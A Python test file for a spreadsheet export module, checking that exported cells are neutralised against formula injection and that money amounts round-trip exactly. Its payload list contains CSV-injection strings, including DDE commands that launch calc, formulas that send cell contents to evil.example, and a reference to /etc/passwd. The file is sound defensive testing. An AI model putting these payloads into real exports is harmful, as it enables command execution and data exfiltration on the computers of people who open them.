"""What is exported stays what it was, and nothing in it becomes a formula."""
# ruff: noqa: RUF001 - letters that only look like others are what this is about

import csv
import io
import re
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from markethub.domain.money import Money
from markethub.entrypoints.console.spreadsheet import Cell, encoded, harmless, is_dangerous, major

PAYLOADS: Final = (
    # What begins a formula.
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    '=IMPORTXML("https://evil.example/","//a")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "='file:///etc/passwd'#$passwd.A1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+49 30 123456",
    "-5.00",
    "=",
    "-",
    # Full width, small, and the minus sign.
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "﹦1+1",
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1)",
    "−1+1",
    # After what is dropped.
    " =1+1",
    "   @SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    '"=1+1"',
    '""=1+1',
    # A tab or the end of a line alone, at the beginning.
    "\tplain",
    "\rplain",
    "\nplain",
    # After what some spreadsheets take for the end of a cell.
    "fine;=1+1",
    'fine";=1+1;"',
    "fine,@SUM(1)",
    "fine\t+1+1",
    "fine\n-1+1",
    "fine; ＝1+1",
    "fine\u2028=1+1",
)
"""Texts that somebody would like the staff's computers to compute."""
HARMLESS: Final = (
    "",
    "tea",
    "o-1",
    "a = b",
    "50-60",
    "ada@shop.example",
    "1+1",
    "'=1+1",
    "fine; not a formula",
    "two\nlines",
    "Zoë, Łódź, 東京",
    'she said "no"',
    "2026-11-02T09:00:00Z",
)
BEGINNINGS: Final = tuple("=+-@＝＋－＠\t\r\n")
"""OWASP's list: no cell begins with one of these, whatever is dropped before it."""


def read_back(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode(), newline=""), strict=True))


def as_spreadsheets_split(text: str) -> list[str]:
    """Return the cells that a program makes of a text that takes any separator for one."""
    return re.split(r"[,;\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", text)


def begins_a_formula(cell: str) -> bool:
    return cell.strip(' "\u00a0\u3000').startswith(BEGINNINGS)


awkward = st.text(
    st.one_of(st.sampled_from("=+-@＝＋－＠\t\r\n,;\"' \u200b"), st.characters(codec="utf-8"))
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_of_the_corpus_is_left_for_a_spreadsheet_to_compute(payload: str) -> None:
    [[cell]] = read_back(encoded([[payload]]))

    assert is_dangerous(payload)
    assert not is_dangerous(cell)
    assert [] == [each for each in as_spreadsheets_split(cell) if begins_a_formula(each)]
    assert payload.replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("payload", [each for each in PAYLOADS if not each.startswith("fine")])
def test_the_apostrophe_leads_the_cell(payload: str) -> None:
    assert harmless(payload).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    assert [[text]] == read_back(encoded([[text]]))


@given(st.lists(st.lists(awkward, min_size=1), min_size=1))
def test_cells_are_read_back_as_they_were_written_and_none_is_dangerous(
    rows: list[list[str]],
) -> None:
    read = read_back(encoded(rows))

    assert [[harmless(cell) for cell in row] for row in rows] == read
    assert [] == [
        part
        for row in read
        for cell in row
        for part in [cell[:1], *as_spreadsheets_split(cell)]
        if begins_a_formula(part)
    ]


@given(awkward)
def test_making_a_text_harmless_again_changes_nothing(text: str) -> None:
    assert harmless(text) == harmless(harmless(text))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (major(Money.of(5000, "usd")), "50.00"),
        (major(Money.of(-1, "usd")), "-0.01"),
        (major(Money.of(5000, "jpy")), "5000"),
        (major(Money.of(-5000, "kwd")), "-5.000"),
        (major(Money.of(0, "kwd")), "0.000"),
        (-7, "-7"),
        (None, '""'),
        ("-7", '"\'-7"'),
        ('a "b"', '"a ""b"""'),
        (datetime(2026, 11, 2, 9, 0, tzinfo=UTC), '"2026-11-02T09:00:00Z"'),
        (
            datetime(2026, 11, 2, 9, 0, tzinfo=timezone(timedelta(hours=2))),
            '"2026-11-02T07:00:00Z"',
        ),
    ],
)
def test_numbers_of_ours_stay_numbers_and_everything_else_is_quoted(
    cell: Cell, written: str
) -> None:
    assert f"{written}\r\n".encode() == encoded([[cell]])


@given(st.integers(-(10**15), 10**15), st.sampled_from(["usd", "jpy", "kwd"]))
def test_an_amount_is_read_back_exactly(minor: int, currency: str) -> None:
    money = Money.of(minor, currency)
    [[cell]] = read_back(encoded([[major(money)]]))

    assert minor == Decimal(cell).scaleb(money.currency.exponent)
